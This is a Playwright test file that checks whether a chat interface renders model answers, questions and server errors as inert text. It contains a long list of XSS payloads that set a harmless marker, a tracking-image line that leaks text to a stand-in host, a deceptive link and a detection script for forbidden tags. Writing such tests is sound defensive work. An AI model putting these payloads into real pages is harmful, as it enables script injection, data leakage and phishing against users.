"""A model that attacks the reader: nothing that it writes may run, load, or look like a part of the page."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

import pytest

from tests.e2e.browser import ChatPage
from tests.e2e.server import Server

if TYPE_CHECKING:
    from playwright.sync_api import Browser

RUN = "window.hacked=1"
FAR = "https://far.example"
TEXTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload='{RUN}'><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:{RUN}'></iframe><object data='javascript:{RUN}'></object><embed src='javascript:{RUN}'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f"<form action='{FAR}'><input name=q><button formaction='javascript:{RUN}'>Send</button></form>",
    f"<a href='javascript:{RUN}'>click</a>",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](&#106;avascript:{RUN})",
    f"[click](java\tscript:{RUN})",
    f"[click](data:text/html;base64,PHNjcmlwdD4{RUN})",
    f"[click](vbscript:{RUN})",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n\n[a]",
    f"![x]({FAR}/track.png?what=you-wrote)",
    f"![x](javascript:{RUN})",
    f'![x]({FAR}/a.png "t\\" onerror=\\"{RUN}")',
    f'[x](https://e.example "\\" onmouseover=\\"{RUN}")',
    f"[<img src=x onerror={RUN}>](https://e.example)",
    f'```"><script>{RUN}</script>\ncode\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f"```x' onclick='{RUN}\ncode\n```",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | `</code><script>{RUN}</script>` |",
    f"<style>body{{display:none}}</style><link rel=stylesheet href={FAR}/a.css><base href={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<div style='position:fixed;inset:0;background:url({FAR}/a.png)' id=send class=primary>Pay</div>",
    f"</div></li></ol></main><script>{RUN}</script>",
    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"\u0000<scr\u0000ipt>{RUN}</script>",
    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
    f"<!--><script>{RUN}</script>-->",
    f"<xmp><script>{RUN}</script></xmp><plaintext><script>{RUN}</script>",
]
FORBIDDEN = """() => {
  const bad = [];
  for (const prose of document.querySelectorAll(".prose")) {
    for (const node of prose.querySelectorAll("*")) {
      const name = node.tagName.toLowerCase();
      const ours = node.closest(".code-head");
      if (/^(script|style|iframe|object|embed|img|link|meta|base|form|input|math|template|video|audio)$/.test(name)) {
        bad.push(name);
      }
      if (!ours && /^(svg|button)$/.test(name)) bad.push(name);
      for (const { name: key, value } of node.attributes) {
        if (/^on/i.test(key) || key === "style" || key === "id" || key === "name") bad.push(`${name} ${key}`);
        if (key === "href" && !/^(https?:|mailto:)/.test(value)) bad.push(`${name} ${value}`);
      }
    }
  }
  return bad;
}"""


@pytest.fixture
def chat(browser: Browser, server: Server) -> Iterator[ChatPage]:
    context = browser.new_context(locale="en-US")
    page = ChatPage(context.new_page(), server.url).open()
    yield page
    context.close()


def test_nothing_that_a_model_writes_runs_or_loads(chat: ChatPage) -> None:
    for text in TEXTS:
        chat.answer_with(text)
        chat.ask("attack")
        for link in chat.page.locator(".turn:last-child .prose a").all():
            link.dispatch_event("mouseover")
        assert chat.page.evaluate(FORBIDDEN) == [], text
        assert chat.page.evaluate("window.hacked") is None, text
    chat.open()  # and from storage, all of it once more
    assert chat.page.locator(".turn").count() == len(TEXTS)
    assert chat.page.evaluate(FORBIDDEN) == []
    assert chat.page.evaluate("window.hacked") is None
    assert chat.page.locator("#send").count() == 1
    chat.assert_it_behaved()


def test_links_say_where_they_lead_and_tell_nobody_where_from(chat: ChatPage) -> None:
    chat.answer_with("[https://bank.example](https://thief.example/login)")
    chat.ask("where")
    link = chat.page.locator(".prose a")
    assert link.get_attribute("title") == "https://thief.example/login"
    assert link.get_attribute("rel") == "noopener noreferrer nofollow"
    assert link.get_attribute("target") == "_blank"
    chat.assert_it_behaved()


def test_questions_and_titles_are_text(chat: ChatPage) -> None:
    attack = f"<img src=x onerror={RUN}>"
    chat.answer_with("well")
    chat.ask(attack)
    assert chat.page.inner_text(".bubble") == attack
    assert chat.titles() == [attack]
    assert chat.page.evaluate("window.hacked") is None
    chat.assert_it_behaved()


def test_errors_of_a_hostile_server_are_text(chat: ChatPage) -> None:
    error = {"error": {"message": f"<img src=x onerror={RUN}>", "type": "t", "param": None, "code": "x"}}
    chat.page.route("**/chat/completions", lambda route: route.fulfill(status=400, json=error))
    chat.ask("hello")
    assert "<img src=x" in chat.page.inner_text(".failure")
    assert chat.page.evaluate("window.hacked") is None
    chat.assert_it_behaved()


def test_damaged_storage_does_not_stop_the_page(chat: ChatPage) -> None:
    chat.page.evaluate("localStorage.setItem('chatglm.conversation.x', '{not json')")
    chat.page.evaluate("localStorage.setItem('chatglm.conversation.y', '[1, 2]')")
    chat.open()
    chat.answer_with("well")
    chat.ask("hello")
    assert chat.answer() == "well"
    chat.assert_it_behaved()
